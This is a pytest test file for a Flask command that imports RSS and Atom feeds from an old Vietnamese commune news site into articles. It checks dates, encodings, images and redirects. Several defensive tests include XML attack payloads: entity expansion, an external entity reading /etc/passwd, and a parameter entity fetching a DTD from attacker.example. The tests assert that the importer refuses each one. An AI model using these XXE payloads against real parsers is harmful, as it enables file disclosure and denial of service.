"""`flask import-feed`: RSS 2.0 and Atom items become articles; old item links answer 301."""

from datetime import UTC, datetime
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import func, select

from models import Article, Media, Redirect, db
from ops import importing

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
RSS = str(FIXTURES / "feed.rss")
ATOM = str(FIXTURES / "feed.atom")


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def article(title: str) -> Article:
    return db.session.scalar(select(Article).where(Article.title == title))


@pytest.fixture
def site_copy(tmp_path) -> str:
    """A copy of the old portal's files, by their paths on the old site."""
    folder = tmp_path / "cu" / "uploads" / "news" / "2020_02"
    folder.mkdir(parents=True)
    Image.new("RGB", (800, 600), (30, 140, 60)).save(folder / "lop-hoc.jpg", "JPEG")
    return str(tmp_path / "cu")


def run(runner, *args):
    result = runner.invoke(args=["import-feed", *args])
    assert result.exit_code == 0, result.output
    return result


def test_rss_items_become_published_articles(runner, site_copy, client):
    run(runner, RSS, "--uploads", site_copy)
    course = article("Khai giảng lớp học nghề đan lát")
    assert course.status == "published"
    assert course.publish_at == datetime(2020, 2, 3, 2, 15, tzinfo=UTC)  # 09:15 +07:00
    assert course.category.name == "Kinh tế"
    assert course.summary == "Ba mươi học viên tham gia lớp học nghề đan lát."
    assert "<p>Ba mươi học viên tham gia lớp học nghề đan lát mây tre.</p>" in course.body
    assert "script" not in course.body and "alert" not in course.body
    assert 'src="/media/' in course.body
    # The enclosure is the same photo: stored once, and the lead image.
    assert count(Media) == 1 and course.image_id is not None
    notice = article("Thông báo nghỉ Tết Nguyên đán")
    assert notice.body == "<p>Ủy ban nhân dân xã thông báo lịch nghỉ Tết Nguyên đán Canh Tý.</p>"
    answer = client.get("/news/kinh-te/khai-giang-lop-hoc-nghe-15.html")
    assert answer.status_code == 301 and answer.location == f"/tin/{course.slug}-{course.id}"


def test_atom_entries_with_html_and_xhtml_content(runner):
    run(runner, ATOM)
    road = article("Ra quân làm đường giao thông nông thôn")
    assert road.author == "Trần Văn Bình" and road.category.name == "Giao thông"
    assert road.summary == "Hơn hai trăm người dân cùng ra quân làm đường."
    assert road.body == "<p>Hơn hai trăm người dân thôn Đông cùng ra quân làm đường bê tông.</p>"
    assert road.publish_at == datetime(2021, 3, 10, 0, 30, tzinfo=UTC)
    forest = article("Họp dân bàn kế hoạch trồng rừng")
    assert forest.body == "<p>Thôn Tây họp dân bàn kế hoạch <strong>trồng rừng</strong>.</p>"
    # No zone given: the old site's local time, Asia/Ho_Chi_Minh.
    assert forest.publish_at == datetime(2021, 2, 1, 7, 0, tzinfo=UTC)


def test_without_the_files_images_are_reported_not_fetched(runner, monkeypatch):
    def no_internet(*_args, **_kwargs):
        raise AssertionError("fetched from the internet without --fetch")

    monkeypatch.setattr(importing.urllib.request, "urlopen", no_internet)
    result = run(runner, RSS)
    assert "lop-hoc.jpg" in result.output and count(Media) == 0
    assert count(Article) == 2


def test_fetch_downloads_the_images(runner, monkeypatch, site_copy):
    photo = Path(site_copy, "uploads", "news", "2020_02", "lop-hoc.jpg").read_bytes()
    asked = []

    def fake_download(url, limit):
        asked.append(url)
        return photo

    monkeypatch.setattr(importing, "download", fake_download)
    run(runner, RSS, "--fetch")
    assert asked[0] == "https://tanlap-cu.example/uploads/news/2020_02/lop-hoc.jpg"
    assert count(Media) == 1


def test_a_feed_url_is_fetched_because_the_operator_gave_it(runner, monkeypatch):
    monkeypatch.setattr(importing, "download", lambda url, limit: Path(ATOM).read_bytes())
    run(runner, "https://dongson-cu.example/feed.atom")
    assert count(Article) == 2


def test_running_twice_adds_nothing_and_a_dry_run_writes_nothing(runner):
    dry = run(runner, RSS, "--dry-run")
    assert "Chạy thử" in dry.output and "2 tin bài" in dry.output
    assert count(Article) == 0 and count(Redirect) == 0
    run(runner, RSS)
    again = run(runner, RSS)
    assert "đã nhập lần trước" in again.output
    assert count(Article) == 2 and count(Redirect) == 2


def test_attack_billion_laughs_in_a_feed_is_refused(runner):
    result = runner.invoke(args=["import-feed", str(FIXTURES / "billion_laughs.xml")])
    assert result.exit_code != 0 and "DTD" in result.output
    assert count(Article) == 0


def test_a_missing_file_or_other_xml_is_refused_clearly(runner, tmp_path):
    missing = runner.invoke(args=["import-feed", str(tmp_path / "khong-co.xml")])
    assert missing.exit_code != 0 and "Không tìm thấy tệp" in missing.output
    other = tmp_path / "ghi-chu.xml"
    other.write_text("<ghichu><dong>Họp thôn</dong></ghichu>", encoding="utf-8")
    refused = runner.invoke(args=["import-feed", str(other)])
    assert refused.exit_code != 0 and "không phải nguồn tin RSS hay Atom" in refused.output


NETSCAPE_DOCTYPE = (
    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
    ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
)


def test_the_rss_091_netscape_doctype_is_accepted(runner, tmp_path):
    """A public DOCTYPE with no internal subset declares nothing and is harmless."""
    feed = tmp_path / "rss091.xml"
    text = Path(RSS).read_text(encoding="utf-8")
    feed.write_text(text.replace("?>\n", "?>\n" + NETSCAPE_DOCTYPE, 1), encoding="utf-8")
    run(runner, str(feed))
    assert article("Thông báo nghỉ Tết Nguyên đán") is not None


@pytest.mark.parametrize(
    "subset",
    ['[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]',
     '[<!ENTITY xxe SYSTEM "file:///etc/passwd">]',
     '[<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]'],
)  # fmt: skip
def test_attack_a_doctype_declaring_entities_is_still_refused(runner, tmp_path, subset):
    feed = tmp_path / "doctype.xml"
    text = Path(RSS).read_text(encoding="utf-8")
    feed.write_text(text.replace("?>\n", f"?>\n<!DOCTYPE rss {subset}>\n", 1), encoding="utf-8")
    result = runner.invoke(args=["import-feed", str(feed)])
    assert result.exit_code != 0 and "tấn công" in result.output
    assert count(Article) == 0


@pytest.mark.parametrize("prefix", [b"\n\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n"])
def test_a_feed_with_a_blank_line_before_the_declaration_is_read(runner, tmp_path, prefix):
    feed = tmp_path / "dong-trong.xml"
    feed.write_bytes(prefix + Path(ATOM).read_bytes())
    run(runner, str(feed))
    assert count(Article) > 0


@pytest.mark.parametrize("encoding", ["windows-1258", "big5", "euc-kr", "gb2312", "iso-8859-1"])
def test_a_feed_in_a_declared_encoding_is_decoded(runner, tmp_path, encoding):
    title = {"big5": "中文標題", "euc-kr": "한국어 제목", "gb2312": "中文标题",
             "iso-8859-1": "Café à Hà Nội"}.get(encoding, "Tin xã Tân Lập")  # fmt: skip
    feed = tmp_path / "feed.xml"
    safe = title.encode(encoding, "xmlcharrefreplace").decode(encoding)
    feed.write_bytes(
        f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel>'
        f"<title>x</title><link>https://cu.example/</link><item><title>{safe}</title>"
        "<link>https://cu.example/a.html</link><pubDate>Mon, 03 Feb 2020 09:15:00 +0700"
        "</pubDate><description>Nội dung</description></item></channel></rss>"
        .encode(encoding, "xmlcharrefreplace")
    )  # fmt: skip
    run(runner, str(feed))
    assert article(title) is not None
    assert article(title).body == "<p>Nội dung</p>"
